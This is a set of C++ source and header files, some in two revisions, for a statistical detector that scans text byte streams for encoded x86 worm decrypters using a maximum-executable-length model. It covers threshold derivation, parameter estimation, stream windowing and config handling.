        << " max=" << report.benign_mels.max() << '\n';
  }
  out << "  empirical FP rate at tau: " << report.empirical_fp_rate << '\n';
  out << "  sensitivity gap: benign p=" << report.gap.benign_p
      << " vs worm-floor p=" << report.gap.malware_p << " (margin "
      << report.gap.p_gap() << ")\n";
  for (const auto& warning : report.warnings) {
    out << "  WARNING: " << warning << '\n';
  }
  return out.str();
}

}  // namespace mel::core
