#include "mel/core/parameter_estimation.hpp"

#include <cassert>
#include <cmath>
#include <span>
#include <string>

#include "mel/disasm/opcode_table.hpp"
#include "mel/disasm/text_subset.hpp"
#include "mel/util/bytes.hpp"

namespace mel::core {

namespace {

/// Byte values of the six segment-override prefixes, indexed by SegReg.
constexpr std::uint8_t kSegPrefixByte[6] = {0x26, 0x2E, 0x36,
                                            0x3E, 0x64, 0x65};

/// P[the effective segment override of an instruction is "wrong"].
///
/// Model: the prefix chain has geometric length (each char is a prefix
/// with probability z, i.i.d.); the last segment-class prefix in the chain
/// wins. With s = P[prefix is segment-class | prefix] and w = P[segment
/// prefix is wrong | segment prefix]:
///   P[chain contains >= 1 segment prefix] = z*s / (1 - z*(1-s))
///   P[effective override wrong] = w * that.
double wrong_override_probability(const CharFrequencyTable& freq,
                                  const std::array<bool, 6>& wrong,
                                  double z) {
  double seg_mass = 0.0;
  double wrong_mass = 0.0;
  for (int seg = 0; seg < 6; ++seg) {
    const double mass = freq[kSegPrefixByte[seg]];
    seg_mass += mass;
    if (wrong[seg]) wrong_mass += mass;
  }
  if (seg_mass == 0.0 || z == 0.0) return 0.0;
  const double s = seg_mass / z;
  const double w = wrong_mass / seg_mass;
  const double at_least_one_segment = z * s / (1.0 - z * (1.0 - s));
  return w * at_least_one_segment;
}

}  // namespace

util::Status validate_estimation_input(const CharFrequencyTable& frequencies,
                                       std::size_t input_chars) {
  double total = 0.0;
  for (int b = 0; b < 256; ++b) {
    const double value = frequencies[b];
    if (!std::isfinite(value) || value < 0.0) {
      return util::Status::invalid_argument(
          "frequency table entry for byte " + std::to_string(b) +
          " is negative or non-finite");
    }
    total += value;
  }
  if (total > 1.0 + 1e-6) {
    return util::Status::invalid_argument(
        "frequency table mass " + std::to_string(total) +
        " exceeds 1; not a probability distribution");
  }
  if (total == 0.0 && input_chars > 0) {
    return util::Status::invalid_argument(
        "frequency table is all-zero but input_chars > 0");
  }
  if (input_chars > kMaxEstimationChars) {
    return util::Status::invalid_argument(
        "input_chars " + std::to_string(input_chars) +
        " exceeds the 2^53 exact-double bound; estimation would silently "
        "lose precision");
  }
  const disasm::ByteDistribution dist(frequencies);
  if (disasm::prefix_char_probability(dist) >= 1.0 - 1e-12) {
    return util::Status::invalid_argument(
        "frequency table places all mass on prefix bytes (z == 1); no "
        "opcode distribution to estimate from");
  }
  return util::Status::ok();
}

EstimatedParameters estimate_parameters(const CharFrequencyTable& frequencies,
                                        std::size_t input_chars,
                                        const EstimationOptions& options) {
  EstimatedParameters params;
  params.input_chars = input_chars;

  const disasm::ByteDistribution dist(frequencies);
  params.z = disasm::prefix_char_probability(dist);
  // z == 1 (all mass on prefix bytes) used to be a debug-only assert; a
  // crafted table then fed Inf/NaN through every downstream quantity in
  // release builds. Degenerate tables now yield n == 0, which every
  // caller already treats as "no statistical basis for a threshold".
  if (params.z >= 1.0 - 1e-12) {
    params.z = 1.0;
    return params;
  }
  params.expected_prefix_chain = disasm::expected_prefix_chain_length(dist);
  params.expected_actual_length =
      disasm::expected_actual_instruction_length(dist);
  params.expected_instruction_length =
      params.expected_prefix_chain + params.expected_actual_length;
  // Guard the division: a zero/non-finite expected length (empty table)
  // or a C beyond double's exact-integer range would make n wrap or go
  // non-finite downstream (llround of >2^63 is UB).
  if (!(params.expected_instruction_length > 0.0) ||
      !std::isfinite(params.expected_instruction_length) ||
      input_chars > kMaxEstimationChars) {
    params.n = 0.0;
    return params;
  }
  params.n = static_cast<double>(input_chars) /
             params.expected_instruction_length;

  // Opcode-conditional probabilities: the opcode is the first non-prefix
  // character, so condition the table on "not a prefix".
  const double non_prefix_mass = 1.0 - params.z;
  double io_mass = 0.0;
  double modrm_mass = 0.0;
  for (std::uint8_t opcode : disasm::text_opcode_bytes()) {
    const double mass = frequencies[opcode];
    if (mass == 0.0) continue;
    if (disasm::is_text_io_opcode(opcode)) io_mass += mass;
    if (disasm::one_byte_table()[opcode].needs_modrm()) modrm_mass += mass;
  }
  params.p_io = io_mass / non_prefix_mass;
  params.modrm_probability = modrm_mass / non_prefix_mass;
  params.p_wrong_segment =
      wrong_override_probability(frequencies, options.wrong_segment,
                                 params.z) *
      params.modrm_probability;
  params.p = params.p_io + params.p_wrong_segment;
  return params;
}

util::StatusOr<EstimatedParameters> estimate_parameters_checked(
    const CharFrequencyTable& frequencies, std::size_t input_chars,
    const EstimationOptions& options) {
  if (util::Status status = validate_estimation_input(frequencies, input_chars);
      !status.is_ok()) {
    return status;
  }
  return estimate_parameters(frequencies, input_chars, options);
}

}  // namespace mel::core
