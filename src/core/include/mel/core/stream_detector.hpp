#pragma once
// Streaming front-end for the detector: scan a reassembled byte stream
// (a TCP flow, a request pipeline) in fixed windows with overlap, so a
// decrypter that straddles a window boundary is still seen whole.
//
// The window size doubles as the model's C (input characters), so every
// window gets the same derived threshold — the paper's evaluation setup
// (~4K chars per case) cast as a streaming scanner.

#include <deque>

#include "mel/core/detector.hpp"

namespace mel::core {

struct StreamConfig {
  DetectorConfig detector;
  /// Bytes per scanned window (the model's C).
  std::size_t window_size = 4096;
  /// Bytes of the previous window re-scanned at the front of the next.
  /// Must exceed the longest worm you expect to catch whole; the default
  /// covers multi-KB decrypters. Must be < window_size.
  std::size_t overlap = 1024;
  /// Attach the flagged window's bytes to each alert (for explain/forensic
  /// tooling). Costs one copy per alert.
  bool keep_window_bytes = false;
};

struct StreamAlert {
  std::uint64_t stream_offset = 0;  ///< Window start within the stream.
  Verdict verdict;
  util::ByteBuffer window;  ///< Filled when keep_window_bytes is set.
};

class StreamDetector {
 public:
  explicit StreamDetector(StreamConfig config = {});

  /// Appends bytes to the stream; scans every completed window and
  /// returns alerts raised by this batch (possibly empty).
  std::vector<StreamAlert> feed(util::ByteView bytes);

  /// Scans whatever remains in the buffer (end of stream).
  std::vector<StreamAlert> finish();

  [[nodiscard]] std::uint64_t bytes_consumed() const noexcept {
    return consumed_;
  }
  [[nodiscard]] std::size_t pending_bytes() const noexcept {
    return buffer_.size();
  }
  [[nodiscard]] std::uint64_t windows_scanned() const noexcept {
    return windows_scanned_;
  }

 private:
  std::vector<StreamAlert> drain(bool flush);

  StreamConfig config_;
  MelDetector detector_;
  util::ByteBuffer buffer_;
  std::uint64_t buffer_stream_offset_ = 0;  ///< Stream offset of buffer_[0].
  std::uint64_t consumed_ = 0;
  std::uint64_t windows_scanned_ = 0;
};

}  // namespace mel::core
