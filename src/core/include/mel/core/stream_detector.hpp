#pragma once
// Streaming front-end for the detector: scan a reassembled byte stream
// (a TCP flow, a request pipeline) in fixed windows with overlap, so a
// decrypter that straddles a window boundary is still seen whole.
//
// The window size doubles as the model's C (input characters), so every
// window gets the same derived threshold — the paper's evaluation setup
// (~4K chars per case) cast as a streaming scanner.

#include <deque>

#include "mel/core/detector.hpp"
#include "mel/obs/metrics.hpp"

namespace mel::core {

struct StreamConfig {
  DetectorConfig detector;
  /// Bytes per scanned window (the model's C). Must be > 0.
  std::size_t window_size = 4096;
  /// Bytes of the previous window re-scanned at the front of the next.
  /// Must exceed the longest worm you expect to catch whole; the default
  /// covers multi-KB decrypters. Must be < window_size.
  std::size_t overlap = 1024;
  /// Attach the flagged window's bytes to each alert (for explain/forensic
  /// tooling). Costs one copy per alert.
  bool keep_window_bytes = false;
  /// Hard cap on buffered (pending) bytes enforced by try_feed(): a batch
  /// that would exceed it is refused with kResourceExhausted so the
  /// caller backs off instead of the buffer growing without bound.
  /// 0 = unlimited (legacy feed() behavior). Must be >= window_size when
  /// set.
  std::size_t max_buffered_bytes = 0;
  /// Per-window scan limits (decode budget / deadline) applied to every
  /// window scan. Windows cut short by a limit are counted via
  /// windows_degraded() and their alerts flagged Verdict::degraded.
  /// (Named `budget` to match ServiceConfig::budget — one name for the
  /// per-scan limit across config structs.)
  ScanBudget budget;

  /// kInvalidConfig for window_size == 0, overlap >= window_size, a cap
  /// smaller than one window, or an invalid detector config. These used
  /// to be debug-only asserts; overlap >= window_size made drain() spin
  /// forever in release builds.
  [[nodiscard]] util::Status validate() const;
};

struct StreamAlert {
  std::uint64_t stream_offset = 0;  ///< Window start within the stream.
  Verdict verdict;
  util::ByteBuffer window;  ///< Filled when keep_window_bytes is set.
};

/// Thread-safety: a StreamDetector models ONE logical byte stream and is
/// stateful (reassembly buffer, offsets, counters) — feed it from one
/// thread, or serialize callers externally. Use one instance per flow;
/// the underlying MelDetector is immutable and shared freely.
class StreamDetector {
 public:
  /// Sanitizes an invalid config (window_size == 0 falls back to the
  /// default, overlap is clamped below window_size) with a warning, so a
  /// release build can't spin forever in drain(). Use create() to reject
  /// instead of sanitize.
  explicit StreamDetector(StreamConfig config = {});

  /// Validating factory: returns kInvalidConfig instead of sanitizing.
  [[nodiscard]] static util::StatusOr<StreamDetector> create(
      StreamConfig config);

  /// Appends bytes to the stream; scans every completed window and
  /// returns alerts raised by this batch (possibly empty). Incoming
  /// bytes are buffered and drained one window at a time, so peak memory
  /// is ~window_size regardless of batch size.
  std::vector<StreamAlert> feed(util::ByteView bytes);

  /// feed() with backpressure: refuses the whole batch with
  /// kResourceExhausted when it would push pending bytes past
  /// max_buffered_bytes (no partial consumption — retry with less), and
  /// converts allocation failure into the same code.
  [[nodiscard]] util::StatusOr<std::vector<StreamAlert>> try_feed(
      util::ByteView bytes);

  /// Scans whatever remains in the buffer (end of stream).
  std::vector<StreamAlert> finish();

  /// Registers this stream's series in `registry` (gauges for buffer
  /// occupancy and its high-water mark, counters for windows scanned /
  /// degraded, alerts, and try_feed rejections) under
  /// `<prefix>_...` names. Call once before feeding; without it the
  /// handles stay detached and instrumentation is free.
  void bind_metrics(obs::MetricsRegistry& registry,
                    const std::string& prefix = "mel_stream");

  [[nodiscard]] std::uint64_t bytes_consumed() const noexcept {
    return consumed_;
  }
  [[nodiscard]] std::size_t pending_bytes() const noexcept {
    return buffer_.size();
  }
  /// Largest buffer occupancy ever observed (bytes). The interesting
  /// capacity-planning number: how close the stream got to
  /// max_buffered_bytes.
  [[nodiscard]] std::size_t buffer_high_water_bytes() const noexcept {
    return buffer_high_water_;
  }
  /// Batches refused by try_feed() (cap overflow or allocation failure).
  [[nodiscard]] std::uint64_t feeds_rejected() const noexcept {
    return feeds_rejected_;
  }
  [[nodiscard]] std::uint64_t windows_scanned() const noexcept {
    return windows_scanned_;
  }
  /// Total bytes handed to the detector across all windows, INCLUDING the
  /// overlap bytes re-fed at the front of each window. This is the
  /// engine's real workload; dividing wall time by bytes_consumed()
  /// instead overstates stream throughput by ~window/(window-overlap)
  /// (see docs/performance.md — raw vs effective MB/s).
  [[nodiscard]] std::uint64_t bytes_scanned() const noexcept {
    return bytes_scanned_;
  }
  /// Windows whose scan was cut short by the per-window budget/deadline
  /// (their mel is a lower bound; alerts from them carry degraded=true).
  [[nodiscard]] std::uint64_t windows_degraded() const noexcept {
    return windows_degraded_;
  }

 private:
  std::vector<StreamAlert> drain(bool flush);
  void note_buffer_level() noexcept;

  StreamConfig config_;
  MelDetector detector_;
  util::ByteBuffer buffer_;
  /// Per-stream scratch: with the kCachedDag engine, consecutive window
  /// scans through one scratch re-use decode-cache entries for the
  /// overlap bytes (each stream byte decoded once, not once per window).
  exec::MelScratch scratch_;
  std::uint64_t buffer_stream_offset_ = 0;  ///< Stream offset of buffer_[0].
  std::uint64_t consumed_ = 0;
  std::uint64_t bytes_scanned_ = 0;
  std::uint64_t windows_scanned_ = 0;
  std::uint64_t windows_degraded_ = 0;
  std::size_t buffer_high_water_ = 0;
  std::uint64_t feeds_rejected_ = 0;

  // Detached until bind_metrics(); every update below is then a no-op.
  obs::Gauge buffer_gauge_;
  obs::Gauge high_water_gauge_;
  obs::Counter windows_counter_;
  obs::Counter windows_degraded_counter_;
  obs::Counter alerts_counter_;
  obs::Counter feeds_rejected_counter_;
};

}  // namespace mel::core
