#pragma once
// Decoder-free estimation of the model parameters n and p from the input
// length and a character frequency table (paper Section 5.2). No byte of
// the input is disassembled; only static knowledge of the IA-32 text
// opcode map is used.

#include <array>
#include <cstdint>

namespace mel::core {

/// Character frequency table: probability per byte value. For text-channel
/// estimation all mass must lie in 0x20..0x7E.
using CharFrequencyTable = std::array<double, 256>;

struct EstimationOptions {
  /// Segment overrides counted as "wrong" for the p_segment term. Defaults
  /// match mel::exec::ValidityRules: fs (0x64 'd') and gs (0x65 'e').
  std::array<bool, 6> wrong_segment = {false, false, false,
                                       false, true,  true};
};

struct EstimatedParameters {
  // Instruction-length pipeline (Section 5.2, "Determining n").
  double z = 0.0;  ///< P[character is a prefix byte].
  double expected_prefix_chain = 0.0;       ///< z / (1-z).
  double expected_actual_length = 0.0;      ///< Opcode+ModRM+SIB+disp+imm.
  double expected_instruction_length = 0.0; ///< Sum of the two above.
  std::size_t input_chars = 0;              ///< C.
  double n = 0.0;  ///< Estimated instruction count C / E[len].

  // Invalidity pipeline (Section 5.2, "Determining p").
  double p_io = 0.0;            ///< P[opcode is insb/insd/outsb/outsd].
  double p_wrong_segment = 0.0; ///< P[memory access under wrong override].
  double p = 0.0;               ///< p_io + p_wrong_segment.

  // Diagnostics.
  double modrm_probability = 0.0;  ///< P[opcode takes ModR/M | non-prefix].
};

/// Estimates every parameter from the frequency table and the input size.
/// Precondition: the table's text-domain mass is ~1 (text channel).
[[nodiscard]] EstimatedParameters estimate_parameters(
    const CharFrequencyTable& frequencies, std::size_t input_chars,
    const EstimationOptions& options = {});

}  // namespace mel::core
