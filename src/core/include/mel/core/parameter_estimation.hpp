#pragma once
// Decoder-free estimation of the model parameters n and p from the input
// length and a character frequency table (paper Section 5.2). No byte of
// the input is disassembled; only static knowledge of the IA-32 text
// opcode map is used.

#include <array>
#include <cstdint>

#include "mel/util/status.hpp"

namespace mel::core {

/// Character frequency table: probability per byte value. For text-channel
/// estimation all mass must lie in 0x20..0x7E.
using CharFrequencyTable = std::array<double, 256>;

struct EstimationOptions {
  /// Segment overrides counted as "wrong" for the p_segment term. Defaults
  /// match mel::exec::ValidityRules: fs (0x64 'd') and gs (0x65 'e').
  std::array<bool, 6> wrong_segment = {false, false, false,
                                       false, true,  true};
};

struct EstimatedParameters {
  // Instruction-length pipeline (Section 5.2, "Determining n").
  double z = 0.0;  ///< P[character is a prefix byte].
  double expected_prefix_chain = 0.0;       ///< z / (1-z).
  double expected_actual_length = 0.0;      ///< Opcode+ModRM+SIB+disp+imm.
  double expected_instruction_length = 0.0; ///< Sum of the two above.
  std::size_t input_chars = 0;              ///< C.
  double n = 0.0;  ///< Estimated instruction count C / E[len].

  // Invalidity pipeline (Section 5.2, "Determining p").
  double p_io = 0.0;            ///< P[opcode is insb/insd/outsb/outsd].
  double p_wrong_segment = 0.0; ///< P[memory access under wrong override].
  double p = 0.0;               ///< p_io + p_wrong_segment.

  // Diagnostics.
  double modrm_probability = 0.0;  ///< P[opcode takes ModR/M | non-prefix].
};

/// Largest input_chars the estimator accepts: 2^53, the bound below which
/// every std::size_t converts to double exactly. Beyond it C would be
/// silently rounded and n = C / E[len] would drift from the true count —
/// a wraparound-class bug surfaced as a typed error instead.
inline constexpr std::size_t kMaxEstimationChars =
    std::size_t{1} << 53;

/// Input validation shared by the checked estimator and callers that want
/// to pre-flight a table: kInvalidArgument for non-finite or negative
/// entries, total mass far from a probability distribution (> 1 + 1e-6
/// or everything zero with input_chars > 0), or a table whose entire mass
/// sits on prefix bytes (z == 1 leaves no opcode to estimate from).
[[nodiscard]] util::Status validate_estimation_input(
    const CharFrequencyTable& frequencies, std::size_t input_chars);

/// Estimates every parameter from the frequency table and the input size.
/// Precondition: the table's text-domain mass is ~1 (text channel).
/// Degenerate inputs (all-prefix mass, zero expected length, C beyond
/// kMaxEstimationChars) yield n == 0 — the callers' existing "no
/// statistical basis" path — never NaN, Inf, or wrapped integers.
[[nodiscard]] EstimatedParameters estimate_parameters(
    const CharFrequencyTable& frequencies, std::size_t input_chars,
    const EstimationOptions& options = {});

/// As estimate_parameters, but refuses malformed inputs with a typed
/// kInvalidArgument (see validate_estimation_input) instead of the
/// degenerate-result fallback. Service-tier entry points use this so a
/// hostile frequency table is an error, not a silent n == 0.
[[nodiscard]] util::StatusOr<EstimatedParameters>
estimate_parameters_checked(const CharFrequencyTable& frequencies,
                            std::size_t input_chars,
                            const EstimationOptions& options = {});

}  // namespace mel::core
