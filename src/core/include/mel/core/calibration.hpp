#pragma once
// Sensitivity calibration tooling (paper Figure 2): the iso-error line of
// (p, tau) combinations sharing one false-positive rate alpha, and its
// inversion. The gap along this line between the benign operating point
// and the smallest p that would still flag the malware corpus is the
// detector's safety margin.

#include <cstdint>
#include <vector>

namespace mel::core {

struct IsoErrorPoint {
  double p = 0.0;
  double tau = 0.0;
};

/// tau on the alpha iso-error line at invalid-instruction probability p.
[[nodiscard]] double iso_error_tau(double p, std::int64_t n, double alpha);

/// Inverse: the p whose alpha-threshold equals tau (bisection; tau(p) is
/// strictly decreasing). Preconditions: tau > 0, 0 < alpha < 1.
[[nodiscard]] double iso_error_p(double tau, std::int64_t n, double alpha);

/// Samples the iso-error line over [p_min, p_max] with `points` samples.
[[nodiscard]] std::vector<IsoErrorPoint> iso_error_curve(
    std::int64_t n, double alpha, double p_min = 0.02, double p_max = 0.6,
    std::size_t points = 100);

/// Safety-margin summary for Figure 2's annotations.
struct SensitivityGap {
  double benign_p = 0.0;    ///< Estimated p of benign traffic.
  double benign_tau = 0.0;  ///< Threshold at benign_p (max tau for zero FP).
  double malware_mel = 0.0; ///< Smallest MEL observed across malware.
  double malware_p = 0.0;   ///< p whose threshold equals malware_mel
                            ///< (min p for zero FN).
  /// Margin in p-space: how far the estimate may drift before errors.
  [[nodiscard]] double p_gap() const { return benign_p - malware_p; }
};

[[nodiscard]] SensitivityGap sensitivity_gap(double benign_p,
                                             double malware_min_mel,
                                             std::int64_t n, double alpha);

}  // namespace mel::core
