#pragma once
// Persistence for detector configurations: a small line-based text format
// ("melcfg 1") carrying the statistical knobs — alpha, engine, calibrated
// character frequencies — so a calibration run can be saved and shipped
// to the scanners. Validity-rule toggles are not serialized (deployments
// should keep the DAWN defaults; ablations are a bench concern).

#include <string>
#include <string_view>

#include "mel/core/detector.hpp"
#include "mel/util/result.hpp"

namespace mel::core {

/// Renders the config's statistical state. Stable, diff-friendly.
[[nodiscard]] std::string serialize_config(const DetectorConfig& config);

/// Parses serialize_config output. Unknown keys are rejected (typo
/// safety); missing sections fall back to defaults.
[[nodiscard]] util::Result<DetectorConfig> parse_config(
    std::string_view text);

/// Convenience file wrappers.
[[nodiscard]] bool save_config(const DetectorConfig& config,
                               const std::string& path);
[[nodiscard]] util::Result<DetectorConfig> load_config(
    const std::string& path);

}  // namespace mel::core
