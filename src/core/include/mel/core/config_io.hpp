#pragma once
// Persistence for detector configurations: a small line-based text format
// ("melcfg 1") carrying the statistical knobs — alpha, engine, calibrated
// character frequencies — so a calibration run can be saved and shipped
// to the scanners. Validity-rule toggles are not serialized (deployments
// should keep the DAWN defaults; ablations are a bench concern).

#include <string>
#include <string_view>

#include "mel/core/detector.hpp"
#include "mel/util/result.hpp"
#include "mel/util/status.hpp"

namespace mel::core {

/// Hard cap on accepted config text. Config files are attacker-adjacent
/// (shipped to scanners, fetched from management planes); a multi-GB
/// "config" must be refused up front, not buffered and line-split.
inline constexpr std::size_t kMaxConfigTextBytes = 1 << 20;

/// Renders the config's statistical state. Stable, diff-friendly, and
/// lossless: doubles are emitted with round-trip precision, so
/// parse(serialize(c)) reproduces c's fields bit for bit.
[[nodiscard]] std::string serialize_config(const DetectorConfig& config);

/// Parses serialize_config output. Unknown keys are rejected (typo
/// safety); missing sections fall back to defaults. Typed errors:
/// kInvalidArgument for malformed/oversized text, kInvalidConfig when the
/// parsed values fail DetectorConfig::validate().
[[nodiscard]] util::StatusOr<DetectorConfig> parse_config_checked(
    std::string_view text);

/// Message-only wrapper around parse_config_checked (legacy callers).
[[nodiscard]] util::Result<DetectorConfig> parse_config(
    std::string_view text);

/// Convenience file wrappers.
[[nodiscard]] bool save_config(const DetectorConfig& config,
                               const std::string& path);
[[nodiscard]] util::Result<DetectorConfig> load_config(
    const std::string& path);

}  // namespace mel::core
