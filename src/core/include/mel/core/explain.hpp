#pragma once
// Verdict diagnostics: when the detector flags a payload, an operator
// wants to see *why* — where the offending instruction chain sits, what
// it disassembles to, and what the benign-side invalidity profile looked
// like. This module renders that evidence.

#include <string>
#include <vector>

#include "mel/core/detector.hpp"

namespace mel::core {

struct Explanation {
  Verdict verdict;

  /// Byte span of the longest error-free chain (the MEL run).
  std::size_t run_start = 0;
  std::size_t run_end = 0;

  /// Formatted instructions of the run head (up to the configured cap).
  std::vector<std::string> listing;
  /// Instructions in the run beyond the listing cap.
  std::size_t listing_truncated = 0;

  /// Invalid-instruction census over the whole payload:
  /// (reason name, count). Sorted by count, descending.
  std::vector<std::pair<std::string, std::size_t>> invalidity_census;

  /// One-paragraph human-readable summary.
  std::string summary;
};

/// Scans `payload` with the detector's configuration (early exit disabled
/// so the full run is measured) and assembles the evidence report.
[[nodiscard]] Explanation explain(const MelDetector& detector,
                                  util::ByteView payload,
                                  std::size_t max_listing = 16);

/// Renders the explanation as a multi-line report for terminals/logs.
[[nodiscard]] std::string format_explanation(const Explanation& explanation);

}  // namespace mel::core
