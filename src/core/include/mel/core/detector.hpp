#pragma once
// The deployable MEL text-malware detector (DAWN-style, Sections 4.2/5).
//
// Pipeline per payload:
//   1. estimate n and p from the input size and character frequencies
//      (preset table, or a linear sweep of this input — no disassembly),
//   2. derive the threshold tau for the configured false-positive budget
//      alpha (no parameter tuning: Section 6),
//   3. pseudo-execute every entry point and compare the MEL against tau.

#include <chrono>
#include <optional>

#include "mel/core/mel_model.hpp"
#include "mel/core/parameter_estimation.hpp"
#include "mel/exec/mel.hpp"
#include "mel/obs/trace.hpp"
#include "mel/util/bytes.hpp"
#include "mel/util/status.hpp"

namespace mel::core {

struct DetectorConfig {
  /// User-set false-positive budget (the only knob; Section 3.2).
  double alpha = 0.01;
  /// Validity rule set used by pseudo-execution.
  exec::ValidityRules rules = exec::ValidityRules::dawn();
  /// MEL measurement engine. The default linear sweep is what the
  /// Section 3 model describes (see mel/exec/mel.hpp for the trade-offs).
  exec::MelEngine engine = exec::MelEngine::kLinearSweep;
  /// Preset character frequency table ("from experience", Section 5.2).
  /// When absent and measure_input is false, the detector installs the
  /// built-in web-text profile at construction. Calibrate with your own
  /// benign traffic for best margins.
  std::optional<CharFrequencyTable> preset_frequencies;
  /// Estimate n and p from each scanned payload's own characters instead
  /// of a preset. This is the paper's no-preset test condition and adapts
  /// nicely to benign traffic — but it is UNSAFE against adversarial
  /// input: a worm's own byte mix yields a tiny p and therefore a huge
  /// threshold, letting it self-calibrate past the detector (see the
  /// tab_ablation bench). Off by default.
  bool measure_input = false;
  /// Fixed threshold override (used to emulate threshold-tuned detectors
  /// like APE; normal operation leaves this empty).
  std::optional<double> fixed_threshold;
  /// Stop pseudo-execution as soon as the MEL exceeds tau (faster; the
  /// reported MEL is then a lower bound for malicious inputs). Off in the
  /// benches that plot full MEL distributions.
  bool early_exit = true;
  /// Options forwarded to the parameter estimator.
  EstimationOptions estimation;

  /// kInvalidConfig when any knob is outside its documented domain
  /// (alpha outside (0,1), negative fixed threshold, NaN/negative preset
  /// frequencies); OK otherwise. MelDetector::create() rejects invalid
  /// configs; the plain constructor clamps them (see MelDetector).
  [[nodiscard]] util::Status validate() const;
};

/// Per-scan resource limits, independent of the detector's statistical
/// config. Both default to "unlimited" so plain scan() is unchanged.
struct ScanBudget {
  /// Hard cap on instructions decoded by the MEL engine (0 = unlimited).
  /// On a trip the verdict's mel is a lower bound (mel_detail flags it).
  std::uint64_t decode_budget = 0;
  /// Wall-clock budget measured from scan entry (zero = none). Checked
  /// on the skew-aware scan clock inside the engine loop.
  std::chrono::nanoseconds deadline{0};
};

/// Stream-window context for the cached-DAG engine: where the payload
/// sits within its logical stream and whether the scratch's decode cache
/// may reuse entries from the previously scanned (overlapping) window.
/// The defaults describe a standalone payload (no reuse).
struct ScanWindow {
  /// Stream-absolute offset of payload[0].
  std::uint64_t stream_offset = 0;
  /// Allow cross-window cache reuse. Caller contract: the overlap between
  /// this window and the scratch's previous one holds identical stream
  /// bytes (true for StreamDetector's sliding buffer).
  bool reuse_cache = false;
};

struct Verdict {
  bool malicious = false;
  std::int64_t mel = 0;       ///< Measured MEL (lower bound on early exit).
  double threshold = 0.0;     ///< Derived (or fixed) tau.
  double alpha = 0.0;         ///< Configured false-positive budget.
  bool is_text = false;       ///< Input was pure 0x20..0x7E.
  bool loop_detected = false; ///< Cycle reached during pseudo-execution.
  /// Set by the service layer when the verdict came from a fallback path
  /// (budget trip, degenerate estimation, truncated input) and carries
  /// reduced statistical fidelity. Never set by MelDetector itself.
  bool degraded = false;
  EstimatedParameters params; ///< n, p and the estimation pipeline values.
  exec::MelResult mel_detail; ///< Full engine result.
};

/// Thread-safety: a constructed MelDetector is immutable — scan() and
/// derive_threshold() are const, pure functions of the payload and
/// config, so one detector instance may serve any number of concurrent
/// scan threads (the parallel batch engine relies on this).
class MelDetector {
 public:
  /// Clamps out-of-domain values (e.g. alpha outside (0,1) is clamped to
  /// the nearest valid value with a warning) instead of asserting, so a
  /// release build never derives NaN thresholds from a bad knob. Use
  /// create() to reject instead of clamp.
  explicit MelDetector(DetectorConfig config = {});

  /// Validating factory: returns kInvalidConfig instead of clamping.
  [[nodiscard]] static util::StatusOr<MelDetector> create(
      DetectorConfig config);

  /// Scans one payload and returns the verdict. Never throws; non-text
  /// input is scanned all the same and flagged via Verdict::is_text.
  [[nodiscard]] Verdict scan(util::ByteView payload) const;

  /// Scans under per-scan resource limits; on a budget/deadline trip the
  /// verdict's mel_detail carries budget_exhausted/deadline_exceeded and
  /// the mel is a lower bound (callers decide how to degrade).
  [[nodiscard]] Verdict scan(util::ByteView payload,
                             const ScanBudget& budget) const;

  /// As above, reusing a caller-owned scratch arena for the engine's
  /// working vectors (batch hot path; identical verdicts bit for bit).
  /// The scratch must not be shared between concurrent scans.
  [[nodiscard]] Verdict scan(util::ByteView payload, const ScanBudget& budget,
                             exec::MelScratch& scratch) const;

  /// As above, recording estimate/decode/detect spans against `trace`
  /// (null trace: identical to the three-argument overload — spans are
  /// evidence only and never influence the verdict).
  [[nodiscard]] Verdict scan(util::ByteView payload, const ScanBudget& budget,
                             exec::MelScratch& scratch,
                             obs::ScanTrace* trace) const;

  /// As above, with stream-window context so the cached-DAG engine can
  /// reuse decode-cache entries across overlapping windows of one stream.
  /// Engines other than kCachedDag ignore `window`; verdicts are identical
  /// with or without it.
  [[nodiscard]] Verdict scan(util::ByteView payload, const ScanBudget& budget,
                             exec::MelScratch& scratch, obs::ScanTrace* trace,
                             const ScanWindow& window) const;

  /// The threshold the detector would use for a payload of `input_chars`
  /// characters with the given frequency table (exposed for calibration
  /// tooling and tests).
  [[nodiscard]] double derive_threshold(const CharFrequencyTable& frequencies,
                                        std::size_t input_chars) const;

  [[nodiscard]] const DetectorConfig& config() const noexcept {
    return config_;
  }

 private:
  DetectorConfig config_;
};

}  // namespace mel::core
