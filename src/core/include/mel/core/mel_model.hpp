#pragma once
// The paper's probabilistic MEL model (Section 3).
//
// A stream of n instructions, each independently invalid with probability
// p, splits into N+1 valid runs X_i ~ Geometric(p). Treating the runs as
// independent and summing over N ~ Binomial(n, p) gives the closed form
//
//   P[Xmax <= x] = (1 - (1-p)^x) * (1 - p(1-p)^x)^n
//
// from which the detection threshold tau is derived for a user-chosen
// false-positive budget alpha (Section 3.2):
//
//   tau = ( ln(1 - (1-alpha)^(1/n)) - ln p ) / ln(1-p).
//
// This class implements the closed form, the further approximation the
// paper uses for tau (dropping the (1-(1-p)^tau) factor), exact inversion
// by bisection, and bridges to the exact longest-run law in mel::stats for
// quantifying the independence approximation.

#include <cstdint>
#include <vector>

#include "mel/util/status.hpp"

namespace mel::core {

class MelModel {
 public:
  /// Preconditions: n >= 1, 0 < p < 1 (asserted; use validate()/create()
  /// at boundaries where the parameters come from untrusted input).
  MelModel(std::int64_t n, double p);

  /// kInvalidConfig when (n, p) lie outside the model's domain — the
  /// recoverable-path twin of the constructor's asserts.
  [[nodiscard]] static util::Status validate(std::int64_t n, double p);
  [[nodiscard]] static util::StatusOr<MelModel> create(std::int64_t n,
                                                       double p);

  [[nodiscard]] std::int64_t n() const noexcept { return n_; }
  [[nodiscard]] double p() const noexcept { return p_; }

  /// P[Xmax <= x] per the paper's closed form.
  [[nodiscard]] double cdf(std::int64_t x) const;
  /// P[Xmax = x] = cdf(x) - cdf(x-1).
  [[nodiscard]] double pmf(std::int64_t x) const;
  /// Model mean, summed numerically.
  [[nodiscard]] double mean() const;

  /// False-positive probability for threshold tau ("MEL > tau"):
  /// 1 - cdf(tau), using the full closed form.
  [[nodiscard]] double false_positive_rate(double tau) const;
  /// The paper's additional approximation 1 - (1 - p(1-p)^tau)^n
  /// (drops the first factor, which is ~1 near the tail).
  [[nodiscard]] double false_positive_rate_approx(double tau) const;

  /// Threshold from the paper's closed-form inversion (Section 3.2).
  /// Precondition: 0 < alpha < 1.
  [[nodiscard]] double threshold_for_alpha(double alpha) const;
  /// Threshold without the approximation: solves
  /// false_positive_rate(tau) = alpha by bisection (paper's "40.62 vs
  /// 40.61" comparison).
  [[nodiscard]] double threshold_for_alpha_exact(double alpha) const;

